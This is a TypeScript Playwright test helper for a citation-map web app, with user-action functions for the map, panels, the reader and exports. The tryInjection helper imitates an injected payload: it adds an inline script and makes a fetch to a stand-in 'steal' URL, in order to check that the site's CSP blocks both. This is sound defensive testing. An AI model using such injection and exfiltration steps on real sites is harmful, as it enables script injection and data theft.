/**
 * The one module that knows how to drive the app in a real browser (Debian's chromium via
 * playwright-core). Tests speak in user actions — openMap(), selectSource(), setYearRange(),
 * clickRegion() — and never touch selectors themselves, so a UI change is mended here once.
 */
import { execFile, spawn } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { inject } from 'vitest';
import type { ExportCollection } from '../../src/app/export.ts';
import type { MapHost } from '../../src/app/map/MapView.ts';
import { TOWN_LAYERS } from '../../src/app/map/style.ts';
import type {
  MentionCollection,
  PlaceCollection,
  PlaceFeature,
  SourcesFile,
} from '../../src/shared/types.ts';
import { serveDir } from './serve.ts';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const execFileAsync = promisify(execFile);

export interface Session {
  browser: Browser;
  context: BrowserContext;
  page: Page;
  /** Console errors and uncaught page errors seen so far. */
  errors: string[];
  /** Messages of any alert/confirm/prompt dialogs the page opened (none should). */
  dialogs: string[];
  close(): Promise<void>;
}

export async function launch(
  options: { viewport?: { width: number; height: number } } = {},
): Promise<Session> {
  if (!existsSync(CHROMIUM)) {
    throw new Error(
      `e2e: no browser at ${CHROMIUM}; install Debian's chromium (apt-get install -y chromium)`,
    );
  }
  // playwright gives every launch a fresh, empty profile directory of its own.
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: [
      '--no-sandbox',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
      '--disable-quic',
      '--disable-dev-shm-usage',
      '--enable-unsafe-swiftshader',
      '--use-angle=swiftshader',
    ],
  });
  const context = await browser.newContext({
    viewport: options.viewport ?? { width: 1280, height: 800 },
  });
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('console', (msg) => {
    if (msg.type() === 'error') errors.push(msg.text());
  });
  page.on('pageerror', (err) => errors.push(err.message));
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return {
    browser,
    context,
    page,
    errors,
    dialogs,
    async close() {
      await browser.close();
    },
  };
}

export function baseUrl(): string {
  return inject('baseUrl');
}

/** Opens the map (optionally at a URL hash) and waits until the map has finished loading. */
export async function openMap(page: Page, hash = ''): Promise<void> {
  await page.goto(baseUrl() + hash);
  await page.waitForSelector('body[data-map-loaded="true"]', { timeout: 30_000 });
}

/**
 * Counts the canvas pixels that differ from the most common colour (a blank map scores 0), and
 * those within a small distance of `colour` ('#rrggbb'), e.g. the basemap's land.
 */
export async function countPaintedPixels(
  page: Page,
  colour = '#000000',
): Promise<{ total: number; painted: number; colours: number; ofColour: number }> {
  const { at: _, ...stats } = await readCanvas(page, colour, []);
  return stats;
}

export type Rgb = [number, number, number];

/**
 * One screenshot of the map canvas, decoded in the page: pixel statistics (see
 * countPaintedPixels) and the colours at the given canvas positions.
 */
async function readCanvas(
  page: Page,
  colour: string,
  points: readonly (readonly [number, number])[],
): Promise<{ total: number; painted: number; colours: number; ofColour: number; at: Rgb[] }> {
  const png = await page.locator('[data-testid="map"] canvas').screenshot();
  return page.evaluate(
    async ([b64, hex, spots]) => {
      const want = Number.parseInt(hex.slice(1), 16);
      const [wr, wg, wb] = [(want >> 16) & 255, (want >> 8) & 255, want & 255];
      let ofColour = 0;
      const img = new Image();
      img.src = `data:image/png;base64,${b64}`;
      await img.decode();
      const canvas = document.createElement('canvas');
      canvas.width = img.width;
      canvas.height = img.height;
      const ctx = canvas.getContext('2d');
      if (!ctx) throw new Error('no 2d context');
      ctx.drawImage(img, 0, 0);
      const data = ctx.getImageData(0, 0, img.width, img.height).data;
      const counts = new Map<number, number>();
      for (let i = 0; i < data.length; i += 4) {
        const key = ((data[i] ?? 0) << 16) | ((data[i + 1] ?? 0) << 8) | (data[i + 2] ?? 0);
        counts.set(key, (counts.get(key) ?? 0) + 1);
        const near =
          Math.abs((data[i] ?? 0) - wr) +
          Math.abs((data[i + 1] ?? 0) - wg) +
          Math.abs((data[i + 2] ?? 0) - wb);
        if (near <= 6) ofColour++;
      }
      const total = data.length / 4;
      const top = Math.max(...counts.values());
      const at = spots.map(([x, y]) => {
        const i = (Math.round(y ?? 0) * img.width + Math.round(x ?? 0)) * 4;
        return [data[i] ?? 0, data[i + 1] ?? 0, data[i + 2] ?? 0] as [number, number, number];
      });
      return { total, painted: total - top, colours: counts.size, ofColour, at };
    },
    [png.toString('base64'), colour, points] as const,
  );
}

// ---------------------------------------------------------------------------------------------
// The app, in user actions. Everything below reads what the page shows through data-testid
// attributes and ARIA roles, and the data it was built from through readData().

export interface SiteData {
  places: PlaceCollection;
  mentions: MentionCollection;
  sources: SourcesFile;
}

/** The data the site under test serves, read from its folder on disk (dist/data by default). */
export function readData(dir = path.resolve('dist/data')): SiteData {
  const read = <T>(name: string): T => JSON.parse(readFileSync(path.join(dir, name), 'utf8')) as T;
  return {
    places: read<PlaceCollection>('places.geojson'),
    mentions: read<MentionCollection>('mentions.geojson'),
    sources: read<SourcesFile>('sources.json'),
  };
}

/** Mentions that name each place itself (what its mark on the map shows), by place id. */
export function ownCounts(data: SiteData): Map<string, number> {
  const own = new Map<string, number>();
  for (const m of data.mentions.features) {
    own.set(m.properties.placeId, (own.get(m.properties.placeId) ?? 0) + 1);
  }
  return own;
}

/** Places of a kind by mention count (own), most first. */
export function mostMentioned(data: SiteData, kinds: string[]): PlaceFeature[] {
  return data.places.features
    .filter((p) => kinds.includes(p.properties.kind) && p.properties.mentionCount > 0)
    .sort((a, b) => b.properties.mentionCount - a.properties.mentionCount);
}

/** Opens the app and waits for both the map and the data: `suffix` is '?query#hash'. */
export async function openApp(page: Page, suffix = '', base = baseUrl()): Promise<void> {
  await page.goto(base + suffix);
  await page.waitForSelector('body[data-map-loaded="true"]', { timeout: 30_000 });
  await page.waitForSelector('body[data-data-loaded]', { state: 'attached', timeout: 30_000 });
  // Once the data is in, wait for it to be drawn (the first map idle after the counts).
  if ((await page.getAttribute('body', 'data-data-loaded')) === 'true') {
    await page.waitForSelector('body[data-data-shown="true"]', {
      state: 'attached',
      timeout: 30_000,
    });
  }
  await waitForMapIdle(page);
}

/** Waits until MapLibre has written its view into the hash and it has stopped changing. */
export async function waitForMapIdle(page: Page): Promise<void> {
  let last = '';
  for (let k = 0; k < 40; k++) {
    const hash = await page.evaluate(() => location.hash);
    if (hash.includes('map=') && hash === last) return;
    last = hash;
    await page.waitForTimeout(250);
  }
}

/** The app writes the URL just after a change (debounced); give it time to land. */
export async function settle(page: Page): Promise<void> {
  await page.waitForTimeout(250);
}

export async function visibleMentionCount(page: Page): Promise<number> {
  return Number(await page.getByTestId('visible-count').textContent());
}

/** Ticks or unticks one source by its id (the checkbox is labelled with the source's title). */
export async function selectSource(page: Page, sourceId: string, shown: boolean): Promise<void> {
  const box = page.locator(`input[type="checkbox"][data-source-id="${sourceId}"]`);
  await box.setChecked(shown);
  await settle(page);
}

export async function selectAllSources(page: Page, all: boolean): Promise<void> {
  await page.getByTestId(all ? 'sources-all' : 'sources-none').click();
  await settle(page);
}

export async function setYearMode(page: Page, mode: 'published' | 'referenced'): Promise<void> {
  await page.getByTestId(`year-mode-${mode}`).check();
  await settle(page);
}

/** Clicks the histogram's bar for a year (shift-click with `extend`). */
export async function clickYearBar(page: Page, year: number, extend = false): Promise<void> {
  await page
    .getByTestId('histogram')
    .locator(`rect[data-year="${year}"]`)
    .click({ modifiers: extend ? ['Shift'] : [], force: true });
  await settle(page);
}

export async function setYearRange(page: Page, from: number, to: number): Promise<void> {
  const fill = async (id: string, value: number) => {
    const input = page.getByTestId(id);
    await input.fill(String(value));
    await input.dispatchEvent('change');
  };
  await fill('year-from', from);
  await fill('year-to', to);
  await settle(page);
}

/** The ranked place list as shown: place id → count. */
export async function placeListCounts(page: Page): Promise<Map<string, number>> {
  const items = await page
    .locator('[data-testid="place-list"] button[data-place-id]')
    .evaluateAll((buttons) =>
      buttons.map((b) => [
        b.getAttribute('data-place-id') ?? '',
        Number(b.getAttribute('data-count')),
      ]),
    );
  return new Map(items as [string, number][]);
}

/** Opens a place's panel from the places list (searching for it first). */
export async function openPanel(page: Page, place: PlaceFeature): Promise<void> {
  await page.getByTestId('place-search').fill(place.properties.name);
  await page
    .locator(`[data-testid="place-list"] button[data-place-id="${place.properties.id}"]`)
    .click();
  // On a phone choosing a place closes the drawer, search box and all.
  const search = page.getByTestId('place-search');
  if (await search.isVisible()) await search.fill('');
  await page
    .locator(`[data-testid="place-panel"][data-place-id="${place.properties.id}"]${QUOTES_IN}`)
    .waitFor();
}

/** A popup or panel whose quotes are in (or failed): they are fetched when it opens. */
const QUOTES_IN = ':not([data-quotes="loading"])';

export async function closePanel(page: Page): Promise<void> {
  await page.getByTestId('panel-close').click();
}

export interface PanelContent {
  placeId: string;
  heading: string;
  sourceIds: string[];
  mentionIds: string[];
  quotes: string[];
  summary: string;
}

export async function readPanel(page: Page): Promise<PanelContent> {
  const panel = page.getByTestId('place-panel');
  await page.locator(`[data-testid="place-panel"]${QUOTES_IN}`).waitFor();
  return {
    placeId: (await panel.getAttribute('data-place-id')) ?? '',
    heading: (await panel.getByTestId('panel-heading').textContent()) ?? '',
    sourceIds: await panel
      .getByTestId('panel-source')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-source-id') ?? '')),
    mentionIds: await panel
      .getByTestId('panel-mention')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-mention-id') ?? '')),
    quotes: await panel.locator('.quote').allTextContents(),
    summary: (await panel.getByTestId('panel-summary').textContent()) ?? '',
  };
}

/** The years line under a mention in the open panel ("Refers to 2020 · dated by publication"), or null. */
export async function panelMentionYears(page: Page, mentionId: string): Promise<string | null> {
  const item = page
    .getByTestId('place-panel')
    .locator(`[data-testid="panel-mention"][data-mention-id="${mentionId}"]`);
  if ((await item.count()) === 0) return null;
  const years = item.getByTestId('mention-years');
  return (await years.count()) === 0 ? '' : ((await years.textContent()) ?? '');
}

// --- Clicking the map --------------------------------------------------------------------------

/** The current view from MapLibre's `#map=zoom/lat/lon` hash. */
async function currentView(page: Page): Promise<{ zoom: number; lat: number; lon: number }> {
  const hash = await page.evaluate(() => location.hash);
  const m = /map=([\d.]+)\/(-?[\d.]+)\/(-?[\d.]+)/.exec(hash);
  if (!m) throw new Error(`e2e: no map view in the hash "${hash}"`);
  return { zoom: Number(m[1]), lat: Number(m[2]), lon: Number(m[3]) };
}

/** Web Mercator world pixels at a zoom (512-pixel tiles, as MapLibre uses). */
function worldPixel(lon: number, lat: number, zoom: number): [number, number] {
  const size = 512 * 2 ** zoom;
  const x = ((lon + 180) / 360) * size;
  const s = Math.sin((lat * Math.PI) / 180);
  const y = (0.5 - Math.log((1 + s) / (1 - s)) / (4 * Math.PI)) * size;
  return [x, y];
}

/**
 * Waits until the map's canvas has followed its container's size (a shrinking map waits for the
 * layout to settle, MapView.resize), so that positions worked out from the container are the map's.
 */
async function mapSized(page: Page): Promise<void> {
  await page.waitForFunction(() => {
    const map = document.querySelector<HTMLElement>('[data-testid="map"]');
    const canvas = map?.querySelector('canvas');
    if (!map || !canvas) return true;
    return (
      Math.abs(canvas.clientWidth - map.clientWidth) < 1 &&
      Math.abs(canvas.clientHeight - map.clientHeight) < 1
    );
  });
}

/** Page coordinates of a lon/lat on the map canvas, or null when it is off screen. */
export async function pagePoint(
  page: Page,
  lon: number,
  lat: number,
): Promise<{ x: number; y: number } | null> {
  return (await pagePoints(page, [[lon, lat]]))[0] ?? null;
}

/** Page coordinates of many lon/lats at once (one look at the view), null when off screen. */
export async function pagePoints(
  page: Page,
  lonLats: readonly (readonly [number, number])[],
): Promise<({ x: number; y: number } | null)[]> {
  await mapSized(page);
  const view = await currentView(page);
  const box = await page.getByTestId('map').boundingBox();
  if (!box) return lonLats.map(() => null);
  const [cx, cy] = worldPixel(view.lon, view.lat, view.zoom);
  return lonLats.map(([lon, lat]) => {
    const [px, py] = worldPixel(lon, lat, view.zoom);
    const x = box.x + box.width / 2 + (px - cx);
    const y = box.y + box.height / 2 + (py - cy);
    const inside =
      x > box.x + 5 && x < box.x + box.width - 5 && y > box.y + 5 && y < box.y + box.height - 5;
    return inside ? { x, y } : null;
  });
}

function insideRing(lon: number, lat: number, ring: number[][]): boolean {
  let inside = false;
  for (let i = 0, j = ring.length - 1; i < ring.length; j = i++) {
    const [xi, yi] = ring[i] as [number, number];
    const [xj, yj] = ring[j] as [number, number];
    if (yi > lat !== yj > lat && lon < ((xj - xi) * (lat - yi)) / (yj - yi) + xi) inside = !inside;
  }
  return inside;
}

/** Points inside a place's polygon(s) to click, its label point first. */
export function pointsInside(place: PlaceFeature, count = 30): [number, number][] {
  const g = place.geometry;
  const polys =
    g.type === 'Polygon' ? [g.coordinates] : g.type === 'MultiPolygon' ? g.coordinates : [];
  const out: [number, number][] = [place.properties.point];
  let seed = 7;
  const rand = () => {
    seed = (seed * 16807) % 2147483647;
    return seed / 2147483647;
  };
  for (const rings of polys) {
    const outer = rings[0] as number[][];
    const xs = outer.map((p) => p[0] as number);
    const ys = outer.map((p) => p[1] as number);
    const [w, e, s, n] = [Math.min(...xs), Math.max(...xs), Math.min(...ys), Math.max(...ys)];
    for (let k = 0; k < count * 4 && out.length < count; k++) {
      const lon = w + rand() * (e - w);
      const lat = s + rand() * (n - s);
      if (
        insideRing(lon, lat, outer) &&
        !rings.slice(1).some((h) => insideRing(lon, lat, h as number[][]))
      ) {
        out.push([lon, lat]);
      }
    }
  }
  return out;
}

/** Rests the mouse over a region, at the first spot inside it that is in view. */
export async function hoverRegion(page: Page, place: PlaceFeature): Promise<void> {
  for (const [lon, lat] of pointsInside(place)) {
    const at = await pagePoint(page, lon, lat);
    if (!at) continue;
    await page.mouse.move(at.x, at.y);
    await waitForRedraw(page);
    return;
  }
  throw new Error(`e2e: ${place.properties.id} is not in view`);
}

/** Takes the mouse off the map, onto the sidebar. */
export async function moveMouseOffMap(page: Page): Promise<void> {
  const box = await page.getByTestId('sidebar').boundingBox();
  if (!box) throw new Error('e2e: no sidebar');
  await page.mouse.move(box.x + box.width / 2, box.y + box.height - 10);
  await waitForRedraw(page);
}

/** Gives the map time to redraw after a change that goes through its worker. */
export async function waitForRedraw(page: Page): Promise<void> {
  await page.waitForTimeout(400);
}

/**
 * Clicks a region (or point, or border) on the map itself until its panel opens: the first
 * spots tried may sit under a town's circle, which rightly wins the click.
 */
export async function clickRegion(page: Page, place: PlaceFeature): Promise<void> {
  await closePopupIfAny(page);
  const isPoint = place.geometry.type === 'Point';
  const g = place.geometry;
  const lines =
    g.type === 'LineString' ? [g.coordinates] : g.type === 'MultiLineString' ? g.coordinates : [];
  // On a line (a border), its vertices, spread along it, middle ones first.
  const vertices = lines
    .flat()
    .map((p) => [p[0], p[1]] as [number, number])
    .filter((_, k, all) => k % Math.max(1, Math.floor(all.length / 25)) === 0)
    .sort(
      (a, b) =>
        Math.abs(a[1] - place.properties.point[1]) - Math.abs(b[1] - place.properties.point[1]),
    );
  const candidates = isPoint
    ? [place.properties.point]
    : vertices.length > 0
      ? vertices
      : pointsInside(place);
  // Around a point, a few spots within its circle: a smaller circle or a label may sit on
  // its centre.
  const offsets = isPoint
    ? [
        [0, 0],
        [4, 0],
        [-4, 0],
        [0, 4],
        [0, -4],
        [3, 3],
        [-3, -3],
      ]
    : [[0, 0]];
  for (const [lon, lat] of candidates) {
    for (const [dx, dy] of offsets as [number, number][]) {
      const at = await pagePoint(page, lon, lat);
      if (!at) continue;
      await page.mouse.click(at.x + dx, at.y + dy);
      try {
        await page
          .locator(`[data-testid="place-panel"][data-place-id="${place.properties.id}"]`)
          .waitFor({ timeout: 1500 });
        return;
      } catch {
        // Another place took the click (a town over its province): try the next spot.
      }
    }
  }
  throw new Error(`e2e: could not click ${place.properties.id} on the map`);
}

async function closePopupIfAny(page: Page): Promise<void> {
  if (await page.getByTestId('popup').count()) await page.keyboard.press('Escape');
}

export async function readPopup(
  page: Page,
): Promise<{ title: string; sourceIds: string[]; text: string }> {
  const popup = page.getByTestId('popup');
  await popup.waitFor();
  // Quotes are fetched when the popup opens: read it once they are in (or have failed).
  await page.locator(`[data-testid="popup"]${QUOTES_IN}`).waitFor();
  return {
    title: (await popup.locator('.popup-title').textContent()) ?? '',
    sourceIds: await popup
      .getByTestId('popup-source')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-source-id') ?? '')),
    text: (await popup.textContent()) ?? '',
  };
}

/**
 * The data files the page asks for from now on, as paths under the site ("data/quotes/x.0.json"),
 * until stop() is called.
 */
export function watchDataRequests(page: Page): { paths: string[]; stop(): void } {
  const paths: string[] = [];
  const onRequest = (request: { url(): string }) => {
    const pathname = new URL(request.url()).pathname;
    const at = pathname.indexOf('/data/');
    if (at >= 0) paths.push(decodeURIComponent(pathname.slice(at + 1)));
  };
  page.on('request', onRequest);
  return { paths, stop: () => page.off('request', onRequest) };
}

/**
 * Holds the page's requests for the places, the mention index and the sources (as a slow
 * network would) until release(); the map's configuration and first view still come.
 */
export async function holdPlaceData(page: Page): Promise<{ release(): void }> {
  return holdRequests(page, /\/data\/(places\.geojson|mention-index\.json|sources\.json)$/);
}

/** The map's layers of the cited places' names (src/app/map/place-layers.ts). */
const PLACE_NAME_LAYERS = ['place-labels', 'place-area-labels'];
/** The map's layers that draw the cited places' counts: circles, fills and borders. */
const PLACE_MARK_LAYERS = ['place-points', 'place-fills', 'place-country-fills', 'place-borders'];

/** What the map drew at the moment the data was first on screen. */
export interface DrawnWhenShown {
  /** The basemap's town names. */
  towns: string[];
  /** The names of the places the sources cite. */
  placeNames: string[];
  /** How many places' marks (circles, fills, borders) were drawn. */
  placeMarks: number;
}

/**
 * Opens the app at `suffix` and returns what the map drew at the moment the data was first on
 * screen (read then, in the page, before anything else could arrive).
 */
export async function drawnWhenDataShown(page: Page, suffix: string): Promise<DrawnWhenShown> {
  await page.addInitScript(
    ({ towns, names, marks }: { towns: string[]; names: string[]; marks: string[] }) => {
      const seen = new MutationObserver(() => {
        if (document.body.dataset.dataShown !== 'true') return;
        seen.disconnect();
        const map = document.querySelector('[data-testid="map"]') as MapHost | null;
        const drawn: DrawnWhenShown = {
          towns: map?.renderedNames?.(towns) ?? ['(not recorded)'],
          placeNames: map?.renderedNames?.(names) ?? ['(not recorded)'],
          placeMarks: map?.renderedCount?.(marks) ?? -1,
        };
        (window as { drawnAtDataShown?: DrawnWhenShown }).drawnAtDataShown = drawn;
      });
      document.addEventListener('DOMContentLoaded', () =>
        seen.observe(document.body, { attributes: true }),
      );
    },
    { towns: [...TOWN_LAYERS], names: [...PLACE_NAME_LAYERS], marks: [...PLACE_MARK_LAYERS] },
  );
  // A new document (a change of the hash alone would keep the open one).
  await page.goto('about:blank');
  await openApp(page, suffix);
  const drawn = await page.evaluate(
    () => (window as { drawnAtDataShown?: DrawnWhenShown }).drawnAtDataShown,
  );
  if (!drawn) throw new Error('nothing was recorded when the data was first shown');
  return drawn;
}

/** Holds the page's requests for quotes files (as a slow network would) until release(). */
export async function holdQuoteFiles(page: Page): Promise<{ release(): void }> {
  return holdRequests(page, /\/data\/quotes\//);
}

async function holdRequests(page: Page, pattern: RegExp): Promise<{ release(): void }> {
  let release = () => {};
  const gate = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route(pattern, async (route) => {
    await gate;
    await route.continue().catch(() => {});
  });
  return { release };
}

/** Makes the site answer 404 for data/view.json, as data built before that file existed would. */
export async function withoutFirstViewFile(page: Page): Promise<void> {
  await page.route(/\/data\/view\.json$/, (route) =>
    route.fulfill({ status: 404, body: 'not found' }),
  );
}

/** Whether the places and mentions have arrived and been read (or failed to). */
export async function placeDataArrived(page: Page): Promise<boolean> {
  return (await page.getAttribute('body', 'data-data-loaded')) !== null;
}

/** The first view the build wrote beside the data (data/view.json): [[west, south], [east, north]]. */
export function readFirstView(
  dir = path.resolve('dist/data'),
): [[number, number], [number, number]] {
  return JSON.parse(readFileSync(path.join(dir, 'view.json'), 'utf8')).bounds;
}

/**
 * How much of the map the given bounds span: the larger of their share of its width and of its
 * height (1 = edge to edge); null when a corner of them is off screen.
 */
export async function boundsShare(
  page: Page,
  [[west, south], [east, north]]: [[number, number], [number, number]],
): Promise<number | null> {
  const [sw, ne] = await pagePoints(page, [
    [west, south],
    [east, north],
  ]);
  const box = await page.getByTestId('map').boundingBox();
  if (!sw || !ne || !box) return null;
  return Math.max((ne.x - sw.x) / box.width, (sw.y - ne.y) / box.height);
}

/** Makes the site answer 404 for every quotes file, as a server missing them would; undo() ends it. */
export async function breakQuoteFiles(page: Page): Promise<{ undo(): Promise<void> }> {
  const pattern = '**/data/quotes/**';
  await page.route(pattern, (route) => route.fulfill({ status: 404, body: 'not found' }));
  return { undo: () => page.unroute(pattern) };
}

/** The message an open popup shows for quotes it could not fetch, or null when none. */
export async function popupQuotesError(page: Page): Promise<string | null> {
  const error = page.getByTestId('popup').getByTestId('quotes-error');
  return (await error.count()) > 0 ? ((await error.textContent()) ?? '') : null;
}

/** Opens the source reader from the first "Read in source" in the panel. */
export async function openReader(page: Page, nth = 0): Promise<void> {
  await page.getByTestId('read-in-source').nth(nth).click();
  await page.getByTestId('reader-body').locator('.reader-mention').first().waitFor();
  await settle(page);
}

/** Clicks a download button; the file's suggested name and its bytes. */
async function download(page: Page, testId: string): Promise<{ name: string; bytes: Buffer }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId(testId).click(),
  ]);
  const stream = await file.createReadStream();
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return { name: file.suggestedFilename(), bytes: Buffer.concat(chunks) };
}

/** The CSV download as a spreadsheet reads it: UTF-8, its byte-order mark taken off. */
export async function exportCsv(page: Page): Promise<string> {
  return (await exportCsvFile(page)).bytes.toString('utf8').replace(/^\uFEFF/, '');
}

/** The CSV download as it is: suggested name and raw bytes. */
export function exportCsvFile(page: Page): Promise<{ name: string; bytes: Buffer }> {
  return download(page, 'export-csv');
}

export async function exportGeoJson(page: Page): Promise<ExportCollection> {
  return (await exportGeoJsonFile(page)).data;
}

/** The GeoJSON download: suggested name and content. */
export async function exportGeoJsonFile(
  page: Page,
): Promise<{ name: string; data: ExportCollection }> {
  const { name, bytes } = await download(page, 'export-geojson');
  return { name, data: JSON.parse(bytes.toString('utf8')) as ExportCollection };
}

/** Ticks or unticks "GeoJSON with the real shapes of areas and borders". */
export async function setExportShapes(page: Page, on: boolean): Promise<void> {
  await page.getByTestId('export-shapes').setChecked(on);
}

/** Parses the app's CSV (RFC 4180) back into rows. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/**
 * Serves a copy of the built app from a temporary folder, changed by `prepare` first (its
 * data/ is left out when `withData` is false); `close()` stops the server and removes it.
 */
async function serveChangedSite(
  withData: boolean,
  prepare: (root: string) => Promise<void>,
): Promise<{ url: string; root: string; close(): Promise<void> }> {
  const { cp, mkdtemp, rm } = await import('node:fs/promises');
  const { tmpdir } = await import('node:os');
  const root = await mkdtemp(path.join(tmpdir(), 'citemap-site-'));
  const data = path.resolve('dist/data');
  await cp(path.resolve('dist'), root, {
    recursive: true,
    filter: (src) => withData || !src.startsWith(data),
  });
  await prepare(root);
  const server = await serveDir(root);
  return {
    url: server.url,
    root,
    async close() {
      await server.close();
      await rm(root, { recursive: true, force: true });
    },
  };
}

/**
 * Serves the built app with a test-only data set (the hand-written fixture with hostile source
 * text) instead of the pipeline's.
 */
export async function serveFixtureSite(): Promise<{
  url: string;
  dataDir: string;
  close(): Promise<void>;
}> {
  const { smallFixture, writeFixture } = await import('./fixtures/generate.ts');
  const fixture = await smallFixture();
  const site = await serveChangedSite(false, (root) =>
    writeFixture(path.join(root, 'data'), fixture),
  );
  return { url: site.url, dataDir: path.join(site.root, 'data'), close: site.close };
}

/** The built app with a map style of its own set in config.json, as a user would set one. */
export async function serveSiteWithStyle(
  style: object,
): Promise<{ url: string; close(): Promise<void> }> {
  const { writeFile } = await import('node:fs/promises');
  return serveChangedSite(true, async (root) => {
    await writeFile(path.join(root, 'own-style.json'), JSON.stringify(style));
    await writeFile(path.join(root, 'config.json'), JSON.stringify({ style: 'own-style.json' }));
  });
}

/**
 * Tries what an injected payload would: an inline script and a request to a remote origin.
 * Returns whether either got through, and the CSP directives that stopped them.
 */
export async function tryInjection(
  page: Page,
): Promise<{ inlineScriptRan: boolean; remoteFetched: boolean; blocked: string[] }> {
  return page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective));
    const w = window as unknown as { __citemapInjected?: boolean };
    const script = document.createElement('script');
    script.textContent = 'window.__citemapInjected = true';
    document.body.append(script);
    let remoteFetched = false;
    try {
      await fetch('https://example.invalid/steal');
      remoteFetched = true;
    } catch {
      remoteFetched = false;
    }
    await new Promise((r) => setTimeout(r, 100));
    return { inlineScriptRan: w.__citemapInjected === true, remoteFetched, blocked };
  });
}

// --- Reading the map's colours -----------------------------------------------------------------

/** Whether a lon/lat lies inside a place's polygon(s) (holes excluded). */
export function isInside(place: PlaceFeature, lon: number, lat: number): boolean {
  const g = place.geometry;
  const polys =
    g.type === 'Polygon' ? [g.coordinates] : g.type === 'MultiPolygon' ? g.coordinates : [];
  return polys.some(
    (rings) =>
      insideRing(lon, lat, rings[0] as number[][]) &&
      !rings.slice(1).some((h) => insideRing(lon, lat, h as number[][])),
  );
}

/** The colour the map shows at each page point, read from a screenshot of its canvas. */
export async function mapColoursAt(page: Page, points: { x: number; y: number }[]): Promise<Rgb[]> {
  const box = await page.locator('[data-testid="map"] canvas').boundingBox();
  if (!box) throw new Error('e2e: no map canvas');
  const local = points.map((p) => [p.x - box.x, p.y - box.y] as const);
  return (await readCanvas(page, '#000000', local)).at;
}

/** The legend's colour classes for a group of places, as shown: label ("2–4") and colour. */
export async function legendClasses(
  page: Page,
  group: 'area' | 'country',
): Promise<{ label: string; colour: Rgb }[]> {
  return page
    .getByTestId(`legend-ramp-${group}`)
    .getByTestId('legend-class')
    .evaluateAll((items) =>
      items.map((li) => {
        const swatch = li.querySelector('[data-testid="legend-swatch"]');
        const css = swatch ? getComputedStyle(swatch).backgroundColor : '';
        const [r = 0, g = 0, b = 0] = (css.match(/\d+/g) ?? []).map(Number);
        return { label: li.getAttribute('data-label') ?? '', colour: [r, g, b] as Rgb };
      }),
    );
}

/** The page box of an element by test id, or null when it is not shown. */
export async function boxOf(
  page: Page,
  testId: string,
): Promise<{ x: number; y: number; width: number; height: number } | null> {
  const el = page.getByTestId(testId);
  return (await el.count()) > 0 ? el.first().boundingBox() : null;
}

/** Clicks the map at a lon/lat (which must be in view), as a user would. */
export async function clickMapAt(page: Page, lon: number, lat: number): Promise<void> {
  const at = await pagePoint(page, lon, lat);
  if (!at) throw new Error(`e2e: ${lon},${lat} is not in view`);
  await page.mouse.click(at.x, at.y);
  await settle(page);
}

/** Rests the mouse on the map at a lon/lat and returns the tooltip's text ('' when none). */
export async function tooltipAt(page: Page, lon: number, lat: number): Promise<string> {
  const at = await pagePoint(page, lon, lat);
  if (!at) throw new Error(`e2e: ${lon},${lat} is not in view`);
  await page.mouse.move(at.x, at.y);
  await waitForRedraw(page);
  const tip = page.getByTestId('map-tooltip');
  return (await tip.isVisible()) ? ((await tip.textContent()) ?? '') : '';
}

/** The open panel's place id, or null when no panel is open. */
export async function openPanelId(page: Page): Promise<string | null> {
  const panel = page.getByTestId('place-panel');
  return (await panel.count()) > 0 ? panel.getAttribute('data-place-id') : null;
}

// --- Reader steps and focus ---------------------------------------------------------------------

/** Opens the reader from the first "Read in source" of one source's section in the panel. */
export async function openReaderInSource(page: Page, sourceId: string): Promise<void> {
  await page
    .locator(`[data-testid="panel-source"][data-source-id="${sourceId}"]`)
    .getByTestId('read-in-source')
    .first()
    .click();
  await page.getByTestId('reader-body').locator('.reader-mention').first().waitFor();
  await settle(page);
}

/** The reader's "Kandahar: 3 of 9". */
export async function readerPosition(page: Page): Promise<string> {
  return ((await page.getByTestId('reader-position').textContent()) ?? '').trim();
}

export async function stepReader(page: Page, direction: 'previous' | 'next'): Promise<void> {
  await page.getByTestId(`reader-${direction}`).click();
  await settle(page);
}

/** The offset of the mention the reader marks as current. */
export async function currentReaderMention(page: Page): Promise<number> {
  return Number(await page.locator('.reader-mention.current').getAttribute('data-start'));
}

/** What has keyboard focus: its test id, place id, and whether it is the map's canvas. */
export async function focused(
  page: Page,
): Promise<{ testId: string | null; placeId: string | null; isMap: boolean }> {
  return page.evaluate(() => {
    const el = document.activeElement;
    return {
      testId: el?.getAttribute('data-testid') ?? null,
      placeId: el?.getAttribute('data-place-id') ?? null,
      isMap: el?.classList.contains('maplibregl-canvas') ?? false,
    };
  });
}

/** Presses Tab until the element with a test id has focus; false when it never does. */
export async function tabTo(page: Page, testId: string, most = 80): Promise<boolean> {
  for (let k = 0; k < most; k++) {
    await page.keyboard.press('Tab');
    if ((await focused(page)).testId === testId) return true;
  }
  return false;
}

